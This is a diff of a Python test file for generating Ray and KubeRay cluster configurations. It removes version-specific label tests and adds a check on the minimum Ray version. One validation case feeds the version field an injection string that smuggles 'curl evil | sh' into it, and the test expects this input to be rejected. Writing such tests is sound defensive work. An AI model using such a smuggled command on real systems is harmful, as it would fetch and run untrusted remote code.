@@ -345,15 +345,6 @@ def test_ray_is_told_what_it_does_not_read_from_the_limits(fields, key, told):
     assert resources["requests"] == resources["limits"] | {"ephemeral-storage": "10Gi"}
 
 
-@pytest.mark.parametrize(("version", "has_label"), [("2.44.1", False), ("2.45.0", True)])
-def test_a_ray_that_would_not_start_with_labels_is_told_no_device_type_by_one(version, has_label):
-    """KubeRay passes them on as text; Ray 2.44 takes JSON only. The autoscaler has the type as a resource, too."""
-    written = group(gpu_type(), ray_version=version)
-
-    assert ("labels" in written) == has_label
-    assert "accelerator_type:L4" in written["rayStartParams"]["resources"]
-
-
 def test_an_older_ray_is_told_by_start_parameters():
     """Ray 2.50 does not read the field ``resources``; both at once KubeRay refuses."""
     written = group(gpu_type(device_key="nvidia.com/mig-1g.10gb"), ray_version="2.50.1")
@@ -460,11 +451,6 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
         ),
         (a_design(cpu_type(custom={"vgpu": 2})), {}, "would take the resource 'vgpu' for Ray's own"),
         (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"format": "kuberay-helm"}, "chart has no place for Ray's"),
-        (
-            a_design(gpu_type(labels={"zone": "eu"})),
-            {"ray_version": "2.44.1"},
-            "take Ray 2.45 or newer, or take the labels",
-        ),
         (a_design(TPU_V7), {"ray_version": "2.50.0"}, "ends at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
         (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "take Ray 2.51 or newer"),
     ],
@@ -490,6 +476,7 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
     [
         ({"ray_version": "latest"}, "ray_version must be a version in full, such as 2.60.0"),
         ({"ray_version": "2.60"}, "in full"),
+        ({"ray_version": "2.44.1"}, "2.50.0 or newer, as plans need it, got 2.44.1"),
         ({"ray_version": "2.60.0\n"}, "in full"),
         ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "in full"),
         ({"ray_version": "\uff12.60.0"}, "in full"),
